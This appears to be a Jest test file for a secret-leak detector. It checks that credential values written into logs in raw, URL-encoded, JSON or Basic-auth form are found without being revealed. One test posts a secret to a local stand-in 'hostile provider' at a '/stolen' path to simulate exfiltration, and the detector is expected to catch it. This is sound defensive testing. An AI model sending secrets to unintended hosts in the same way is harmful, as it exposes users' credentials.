import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { findLeaks, secretsOf } from '../support/evidence';

/** The search for secrets at the end of a run finds what it must. */
const secret = 'a "secret" with ümlaut/1234';
let folder: string;

beforeEach(async () => {
	folder = await mkdtemp(path.join(tmpdir(), 'evidence-'));
	await writeFile(path.join(folder, 'secrets.txt'), `${JSON.stringify(secret)}\n`);
});

afterEach(async () => await rm(folder, { recursive: true, force: true }));

test.each([
	['as it is', `GET /?x=${secret}`],
	['in a URL', `GET /?token=${encodeURIComponent(secret)}`],
	['in JSON', JSON.stringify({ error: secret })],
	['as Basic authentication', `Authorization: Basic ${Buffer.from(secret).toString('base64')}`],
])('finds a secret %s, and does not tell it', async (_, text) => {
	await writeFile(path.join(folder, 'n8n.log'), `first line\n${text}\n`);
	const { found } = await findLeaks(folder);
	expect(found).toEqual(['n8n.log, line 2: secret 1 of 1']);
});

test('finds nothing where nothing shows', async () => {
	await writeFile(path.join(folder, 'n8n.log'), 'GET /?token=***');
	expect(await findLeaks(folder)).toEqual({ secrets: 1, files: 1, found: [] });
});

test('knows which fields of a credential are secret', () => {
	const data = { baseUrl: 'https://x.example', apiToken: 'abcdefgh', password: 'short', accessKey: '12345678' };
	expect(secretsOf(data)).toEqual(['abcdefgh', '12345678']);
});

test('what a host that nobody meant has heard is searched', async () => {
	const before = process.env.EVIDENCE;
	process.env.EVIDENCE = folder;
	jest.resetModules();
	const { HostileProvider } = await import('../support/hostileProvider');
	const provider = await HostileProvider.start('unused');
	try {
		await fetch(`${provider.otherOrigin}/stolen`, { method: 'POST', body: secret });
	} finally {
		await provider.close();
		if (before === undefined) delete process.env.EVIDENCE;
		else process.env.EVIDENCE = before;
	}
	const { found } = await findLeaks(folder);
	expect(found).toEqual([expect.stringMatching(/other-hosts\.txt, line 1: secret 1 of 1$/)]);
});
